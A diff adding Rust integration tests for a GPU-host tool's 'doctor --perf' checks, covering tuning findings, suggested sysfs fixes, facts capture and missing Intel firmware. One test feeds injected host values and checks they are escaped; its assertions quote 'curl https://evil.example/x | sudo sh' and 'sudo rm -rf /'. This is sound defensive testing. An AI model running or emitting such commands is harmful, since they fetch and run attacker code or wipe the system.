@@ -113,3 +113,153 @@ fn facts_capture_carries_what_doctor_perf_reads() {
     assert_eq!(doc["host"]["rapl"].as_array().unwrap().len(), 3, "host.rapl survives the capture");
     assert_eq!(facts(&captured), facts(&host));
 }
+
+/// `doctor --perf` on a fixture host, with `config` (TOML) as the config when given.
+fn perf_on(host: &str, config: Option<&str>, json: bool) -> Output {
+    let dir = tempfile::tempdir().unwrap();
+    let root = support::hosts_dir().join(host);
+    let mut args = vec!["doctor", "--perf", "--root", root.to_str().unwrap()];
+    let path = dir.path().join("k3dgpu.toml");
+    if let Some(text) = config {
+        std::fs::write(&path, text).unwrap();
+        args.extend(["-c", path.to_str().unwrap()]);
+    }
+    if json {
+        args.push("--json");
+    }
+    k3d_gpu(&args)
+}
+
+#[test]
+fn an_untuned_arc_box_trips_each_gpu_power_and_memory_rule() {
+    let out = perf_on("arc-b580-untuned", Some("[sandbox]\n"), true);
+    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let findings = doc["findings"].as_array().unwrap();
+    let level = |code: &str| -> Vec<&str> {
+        findings.iter().filter(|f| f["code"] == code).map(|f| f["level"].as_str().unwrap()).collect()
+    };
+    for (code, want) in [
+        ("perf-gpu-max-freq", vec!["warn"]),
+        ("perf-gpu-min-freq", vec!["info", "info"]),
+        ("perf-gpu-waitboost", vec!["warn"]),
+        ("perf-rebar", vec!["warn"]),
+        ("perf-pcie-slot", vec!["warn"]),
+        ("perf-thermal-throttle", vec!["warn"]),
+        ("perf-tcc-offset", vec!["info"]),
+        ("perf-rapl-pl1", vec!["warn"]),
+        ("perf-turbo", vec!["warn"]),
+        ("perf-freq-cap", vec!["warn"]),
+        ("perf-idle-latency", vec!["info"]),
+        ("perf-hugetlb", vec!["warn"]),
+        ("perf-ksm", vec!["warn"]),
+        ("perf-sandbox-kvm", vec!["warn"]),
+        ("perf-sandbox-iommu", vec!["info"]),
+        ("perf-sandbox-split-lock", vec!["info"]),
+    ] {
+        assert_eq!(level(code), want, "{code}");
+    }
+    for f in findings {
+        assert!(f["source"].is_string(), "no source: {f}");
+        assert!(f["evidence"].as_str().unwrap().contains('/'), "no file named: {f}");
+    }
+    let get = |code: &str| findings.iter().find(|f| f["code"] == code).unwrap();
+    assert_eq!(
+        get("perf-gpu-max-freq")["fix"],
+        "echo 2850 | sudo tee /sys/class/drm/card1/device/tile0/gt0/freq0/max_freq"
+    );
+    assert_eq!(
+        get("perf-gpu-max-freq")["revert"],
+        "echo 2000 | sudo tee /sys/class/drm/card1/device/tile0/gt0/freq0/max_freq"
+    );
+    assert_eq!(
+        get("perf-rapl-pl1")["fix"],
+        "echo 125000000 | sudo tee /sys/class/powercap/intel-rapl:0/constraint_0_power_limit_uw"
+    );
+    // Without [sandbox], its prerequisites are not this host's business.
+    let plain: Value = serde_json::from_slice(&perf_on("arc-b580-untuned", None, true).stdout).unwrap();
+    assert!(
+        plain["findings"].as_array().unwrap().iter().all(|f| !f["code"].as_str().unwrap().starts_with("perf-sandbox")),
+        "{plain}"
+    );
+    let text = perf_on("arc-b580-untuned", Some("[sandbox]\n"), false);
+    support::check_golden("tests/golden/perf/arc-b580-untuned.txt", &text.stdout).unwrap();
+}
+
+#[test]
+fn a_tuned_host_gets_none_of_the_new_warnings() {
+    let doc: Value = serde_json::from_slice(&perf_on("xeon-2s-snc2", Some("[sandbox]\n"), true).stdout).unwrap();
+    let warns: Vec<&str> = doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["level"] == "warn")
+        .map(|f| f["code"].as_str().unwrap())
+        .collect();
+    assert_eq!(warns, ["perf-numa-balancing", "perf-sandbox-kvm"], "{doc}");
+}
+
+#[test]
+fn host_values_cannot_forge_lines_of_doctor_perf() {
+    let out = perf_on("hostile-tuning", None, false);
+    assert_eq!(out.status.code(), Some(0));
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert!(!text.contains('\u{1b}'), "a raw escape reached the terminal: {text}");
+    for line in text.lines() {
+        let line = line.trim_start();
+        for forged in ["apply: curl", "revert: sudo rm", "apply: sudo sh -c"] {
+            assert!(!line.starts_with(forged), "forged line {line:?} in\n{text}");
+        }
+    }
+    assert!(text.contains("powersave\\x0a      apply: curl https://evil.example/x | sudo sh"), "{text}");
+    assert!(text.contains("package-0\\x1b[2J\\x0a      revert: sudo rm -rf /"), "{text}");
+    support::check_golden("tests/golden/perf/hostile-tuning.txt", text.as_bytes()).unwrap();
+}
+
+#[test]
+fn facts_capture_carries_what_the_gpu_and_power_rules_read() {
+    let dir = tempfile::tempdir().unwrap();
+    let host = support::hosts_dir().join("arc-b580-untuned");
+    let captured = dir.path().join("captured");
+    let out = k3d_gpu(&["facts", "capture", "--root", host.to_str().unwrap(), "--out", captured.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let config = dir.path().join("k3dgpu.toml");
+    std::fs::write(&config, "[sandbox]\n").unwrap();
+    let perf = |root: &Path| {
+        k3d_gpu(&["doctor", "--perf", "--json", "-c", config.to_str().unwrap(), "--root", root.to_str().unwrap()])
+            .stdout
+    };
+    let (from_capture, from_host) = (perf(&captured), perf(&host));
+    assert!(String::from_utf8_lossy(&from_host).contains("perf-gpu-waitboost"));
+    assert_eq!(
+        String::from_utf8_lossy(&from_capture),
+        String::from_utf8_lossy(&from_host),
+        "the capture gives the same advice"
+    );
+}
+
+/// `doctor` (not `--perf`): the firmware an Intel GPU's driver will request.
+#[test]
+fn doctor_names_the_battlemage_guc_that_linux_firmware_lacks() {
+    let findings = |host: &str| -> Vec<Value> {
+        let root = support::hosts_dir().join(host);
+        let out = k3d_gpu(&["doctor", "--no-tools", "--json", "--root", root.to_str().unwrap()]);
+        let doc: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {out:?}"));
+        doc["findings"].as_array().unwrap().clone()
+    };
+    let missing = |f: &[Value]| -> Vec<(String, String)> {
+        f.iter()
+            .filter(|x| x["code"] == "firmware-missing")
+            .map(|x| (x["level"].as_str().unwrap().to_string(), x["text"].as_str().unwrap().to_string()))
+            .collect()
+    };
+    let without = findings("arc-b580-xe-not-loaded");
+    let guc: Vec<_> = missing(&without).into_iter().filter(|(_, t)| t.contains("xe/bmg_guc_70.bin")).collect();
+    assert_eq!(guc.len(), 1, "{without:#?}");
+    assert_eq!(guc[0].0, "fail");
+    let fix =
+        without.iter().find(|x| x["text"].as_str().unwrap().contains("xe/bmg_guc_70.bin")).unwrap()["fix"].clone();
+    assert!(fix.as_str().unwrap().contains("linux-firmware"), "{fix}");
+    let with = findings("arc-b580-xe-rpl-igpu");
+    assert!(missing(&with).iter().all(|(_, t)| !t.contains("xe/bmg_guc_70.bin")), "{with:#?}");
+}
